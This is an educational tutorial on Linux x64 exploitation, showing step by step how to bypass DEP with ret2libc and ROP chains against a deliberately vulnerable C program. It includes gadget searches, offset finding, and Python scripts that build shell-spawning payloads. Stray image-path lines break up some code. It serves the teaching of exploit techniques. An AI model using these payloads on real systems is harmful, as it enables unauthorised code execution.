Using Return Oriented Programming Against DEP

This article describes techniques to bypass DEP (ret2libc and ROP) on Linux x64 systems.

We need:

  1. Python Exploit Development Assistance for GDB
  2. radare2
  3. GDB

We need a small, vulnerable program in C :

#include <stdio.h>
int main(int argc, char *argv[]) {
    char buf[256]; read(0, buf, 400);Compile it using:

gcc -fno-stack-protector rop.c -o rop

Since we do not bypass ASLR, then we need to disable it for your Linux distribution like this:

echo 0 > /proc/sys/kernel/randomize_va_space

To check whether it’s disabled or not type ldd <path to file>. You should get something like: (0x00007ffff7ffa000)=> /usr/lib/ (0x00007ffff7a3c000)
/lib64/ (0x00007ffff7dda000)

If you type it again, the addresses should be the same, meaning randomization is disabled.

ROP and ret2libc

In classic ret2libc we need to create a fake stack frame in order to call a function from libc. For instance, we can call system() and use “/bin/sh” string as input.

In 64-bit programs, the first six params are passed through rdi, rsi, rdx, rcx, r8 and r9. The other parameters are passed through the stack. Thus, in order to call a function from libc, we need to set the right valuesto registers. Setting this values is not that trivial and I will use ROP technique to show how it can be done.

ROP or Return Oriented Programming is a technique that allows us to bypass NX bit. The main idea of ROP is that instead of executing code from the stack, we would use so called gadgets.

A gadget is a short command sequence, which ends with ret instruction. Combining these gadgets and choosing the rights addresses, we can achieve code execution.

Using gadgets we can:

Our exploit will call system('/bin/sh'). Before we do this, we must know:

To find address of system() we can use gdb. Run it as gdb rop.

Then start the program:

gdb-peda$ start

And to find system() address:gdb-peda$ p system
$1 = {<text variable, no debug info>} 0x7ffff7a7b4d0 <system>

And to find a pointer to /bin/sh:

gdb-peda$ find '/bin/sh'
Searching for '/bin/sh' in: None ranges
Found 1 results, display max 1 items:
libc : 0x7ffff7b9d359 --> 0x68732f6e69622f ('/bin/sh')

Now we need a gadget that would copy 0x7ffff7b9d359 into rdi. Let’s use radare2 to find such a gadget. Run radare as r2 rop and look for a gadget as:

[0x00400400]> /R pop rdi 0x004005a3 5f pop rdi 0x004005a4 c3 retThis gadget should work. It will take the address from the stack and write it into rdi.

The only thing we need to do is to find the offset to our exploit, so that we can pass control to it. To find the offset, we can create a pattern, pass it to the program, and then locate itin the memory, and calculate the offset. To generate and save pattern it to pattern.txt:

gdb-peda$ pattern_create 400 pattern.txt
Writing pattern of 400 chars to filename "pattern.txt"

Run gdb again with the pattern as input:

gdb-peda$ r < pattern.txt

We should received the following error, saying that our program crashes: “Program received signal SIGSEGV, Segmentation fault”. Let’s examine rsp. In my case, it looked like:RSP: 0x7fffffffe028 ("HA%dA%3A%IA%eA%4A%JA%fA%5A%KA%gA%6A%LA%hA%7A%MA%iA%8A%NA%jA%9A%OA%kA%PA%lA%QA%mA%RA%oA%SA%pA%TA%qA%UA%rA%VA%tA%WA%uA%XA%vA%YA%wA%ZA%xA%y\020\341\377\367\377\177")

Let’s take the first 6 bytes on the stack HA%dA%. The find which offset they have in our pattern:

gdb-peda$ pattern offset HA%dA%
HA%dA% found at offset: 264

Thus, we know we need to write 264 bytes in order to rewrite rip.

Now we have everything to create an exploit:

from struct import *
buf = ''
buf+= 'A'*264          # junk
buf += pack('<Q', 0x004005a3)   # pop rdi, ret
buf += pack('<Q', 0x7ffff7b9d359)   # pointer to '/bin/sh'
buf += pack('<Q', 0x7ffff7a7b4d0)   # system()
f = open("exploit.txt", "w")

This code:

  1. Creates a buffer and writes there 264 letters ‘А’ as junk;
  2. Writes the address of pop rdi; ret; gadget;
  3. Writes the address of /bin/sh, which is an argument for system();
  4. Writes the address of system().

First we are getting to our gadget (because of rip rewriting). Then, the first command of our gadget pop rdi takes the value from stack, which is /bin/sh address, and writes it into rdi. After that, the second command of the gadget gets executed — ret, which takes the next address from the stack, which is the address of system(), and jumps to it. Then, system() gets called, with the first argument in rip, which is a pointer to /bin/sh string.

Now let’s call our script, which will create ‘exploit.txt’. Then run program with ‘exploit.txt’ as input:

(cat exploit.txt; cat) | ./rop

And we are in sh. In this case we used only one gadget, now let’s use many of them!

Chaining gadgets

The main advantage of ROP is that we can create so called “ROP chains”. Since every gadget ends with ret, we can put multiple addresses on the stack, and every gadget will take the next address from it after executing ret and jump to that address.

In order to run sh let’s use this article. In short we are going to use execve(). To do so we must:

  1. Put the address of /bin/sh into rdi;
  2. Zero out rsi, which stores a pointer to argv;
  3. Zero out rdx, which stores a pointer to envp;4. Write the number of the function (0x3b) into rax;
  5. Call syscall.

Now let’s find gadgets.

We already know the address of pop rdi; ret;

Now we need an address of a gadget that can write a value into rsi. Run radare2 again and type:

[0x00400400]> /R pop rsi
0x004005a1 5e pop rsi
0x004005a2 415f pop r15
0x004005a4 c3 retAs you can see, it deals with r15 too. But this should not be a problem because we can just put some random value for it to pop. This value will be put into r15. If we don’t do so, pop r15 will take an address of the next gadget and thus, break our exploit.

Some gadgets may not be available in our executable file. In this case, we can use libraries that the application loads. To see what libraries are used, run:

ldd rop (0x00007ffff7ffa000) => /usr/lib/ (0x00007ffff7a3c000) /lib64/ (0x00007ffff7dda000)

Open this library inside of radare2:

r2 /usr/lib/

Look for a gadget that we can use to write a value into rax:[0x000203b0]> /R pop rax 0x0011ec71 8903 mov dword [rbx], eax 0x0011ec73 58 pop rax 0x0011ec74 5a pop rdx 0x0011ec75 5b pop rbx 0x0011ec76 c3 ret

There’re a lot of them, but we need only one. This one messes with three registers, but we can also just put random values on the stack in order to avoid breaking the exploit.Since the address we have is just an offset inside libc, we need to calculate its real address, which is the address of libc plus the offset:

>>> hex(0x0011ec73 + 0x7ffff7a3c000)

And we get the real address of the gadget, which is 0x7ffff7b5ac73. Now we need to find a gadget, which calls syscall:

[0x000203b0]> /R syscall 0x0010248e 0000 add byte [rax], al 0x00102490 48633f movsxd rdi, dword [rdi] 0x00102493 b803000000 mov eax, 30x00102498 0f05 syscall 0x0010249a c3 ret

We also calculate its real address, which should be something like 0x7ffff7b3e498.

Now let’s create a buffer for our exploit. It will look like:

0x004005a3  pointer to `pop rdi; ret;`
0x7ffff7b9d359  pointer to '/bin/sh'
0x004005a1  pointer to `pop rsi; ret;`
0x0         null (`argv` value)
0xffffdeadbeef  random value (to bypass `pop r15;`)
0x7ffff7b5ac73  pointer to `pop rax; ret`
0x3b        number of execve to call syscall
0x0         null (`envp` value)
0xffffffffabcd  random value (to bypass `pop rbx;`)
0x7ffff7b3e498  syscall

Create a simple script that creates a file with the buffer:

from struct import *
buf = ''
buf +='A'*264                      # junk
buf +=pack('<Q', 0x004005a3)       # pop rdi
buf += pack('<Q', 0x7ffff7b9d359)   # p to /bin/sh
buf += pack('<Q',0x004005a1)       # pop rsi
buf += pack('<Q', 0x0)              # null argv
buf += pack('<Q', 0xffffdeadbeef)   # junk
buf += pack('<Q', 0x7ffff7b5ac73)   # pop rax
buf += pack('<Q', 0x3b)             # execve number
buf += pack('<Q', 0x0)              # null envp
buf += pack('<Q', 0xffffffffabcd)   # trash
buf += pack('<Q',0x7ffff7b3e498)   # syscall
f = open("exploit.txt", "w")

Run the script. It should save content to file ‘exploit.txt’. Now we can use it with our vulnerable program:

(cat exploit.txt; cat) | ./rop

Now, we areinside sh and we can run commands.